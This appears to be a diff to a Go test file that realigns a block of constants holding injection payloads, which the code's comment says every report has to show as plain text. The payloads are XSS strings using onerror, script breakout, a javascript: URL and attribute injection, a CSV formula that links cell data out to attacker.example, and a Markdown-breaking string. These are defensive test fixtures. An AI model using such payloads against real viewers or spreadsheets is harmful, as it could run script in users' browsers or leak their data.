@@ -9,12 +9,12 @@ import (
 // The payloads an attacker could put in a package's name, version,
 // licence text or SILL data, and that every report must show as text.
 const (
-	xssImg    = `<img src=x onerror=alert(1)>`
-	xssScript = `</script><script>alert(2)</script>`
-	xssURL    = `javascript:alert(3)`
-	xssAttr   = `" onmouseover="alert(4)`
+	xssImg     = `<img src=x onerror=alert(1)>`
+	xssScript  = `</script><script>alert(2)</script>`
+	xssURL     = `javascript:alert(3)`
+	xssAttr    = `" onmouseover="alert(4)`
 	csvFormula = `=HYPERLINK("http://attacker.example/?q="&A1,"click")`
-	mdBreaker = "a|b`c *d* [e](http://attacker.example) @team"
+	mdBreaker  = "a|b`c *d* [e](http://attacker.example) @team"
 )
 
 // richResult is a workstation scan with everything the human and CI
